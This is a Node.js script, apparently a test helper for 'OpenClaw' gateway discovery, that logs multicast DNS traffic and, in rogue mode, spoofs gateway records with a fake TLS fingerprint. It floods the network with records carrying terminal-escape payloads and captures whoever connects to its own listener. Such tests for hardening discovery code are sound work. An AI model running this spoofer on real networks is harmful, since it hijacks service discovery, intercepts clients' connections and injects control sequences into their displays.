// Somebody on a test's own network: prints every packet of multicast DNS it hears, one JSON line each.
// With `rogue` it answers each question about gateways with 10,000 records of its own making, nasty ones among them, and
// with whatever name it heard; it listens where they lead and prints who comes.
// Usage: node lan-neighbour.mjs <own address> [rogue]
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { decode, encode } from "dns-packet";

const [address = "", role] = process.argv.slice(2);
const PORT = 5353;
const GROUP = "224.0.0.251";
const TYPE = "_openclaw-gw._tcp.local";
const ROGUE_PORT = 6_666;
const NASTY = "\u001b[2J\u001b]0;owned\u0007\r\nroot\u202e";

const say = (line) => process.stdout.write(`${JSON.stringify(line)}\n`);

function recordsOf(instance, text) {
  const name = `${instance}.${TYPE}`;
  const target = "rogue.local";
  return [
    { type: "PTR", name: TYPE, ttl: 120, data: name },
    { type: "SRV", name, ttl: 120, flush: true, data: { port: ROGUE_PORT, target } },
    { type: "TXT", name, ttl: 120, flush: true, data: text },
    { type: "A", name: target, ttl: 120, flush: true, data: address },
  ];
}

const socket = createSocket({ type: "udp4", reuseAddr: true });
const tell = (answers) => socket.send(encode({ type: "response", answers }), PORT, GROUP);
const heardNames = new Set();

function attack() {
  for (const name of heardNames) tell(recordsOf(name, ["role=gateway", "gatewayTlsSha256=00"]));
  for (let count = 0; count < 2_500; count += 1)
    tell(
      recordsOf(`OpenClaw ${count}`, [`displayName=${NASTY}`, "wsUrl=ws://203.0.113.9:1", "x".repeat(250)]),
    );
  for (let count = 0; count < 200; count += 1)
    socket.send(Buffer.from(`openclaw${NASTY.repeat(count)}`), PORT, GROUP);
}

socket.on("message", (bytes, { address: from }) => {
  let packet;
  try {
    packet = decode(bytes);
  } catch {
    return;
  }
  const { type, questions, answers } = packet;
  if (from === address) return;
  say({ from, type, questions, answers, text: bytes.toString("latin1") });
  for (const { type: kind, data } of answers)
    if (kind === "PTR") heardNames.add(data.slice(0, -TYPE.length - 1));
  if (role === "rogue" && type === "query" && questions.some(({ name }) => name === TYPE)) attack();
});

socket.bind(PORT, () => {
  socket.addMembership(GROUP, address);
  socket.setMulticastInterface(address);
  if (role !== "rogue") return say("listening");
  const server = createServer((visitor) => {
    say({ visitor: visitor.remoteAddress });
    visitor.on("data", (bytes) => say({ heard: bytes.toString("latin1") }));
    visitor.on("error", () => {});
  });
  server.listen(ROGUE_PORT, address, () => say("listening"));
});
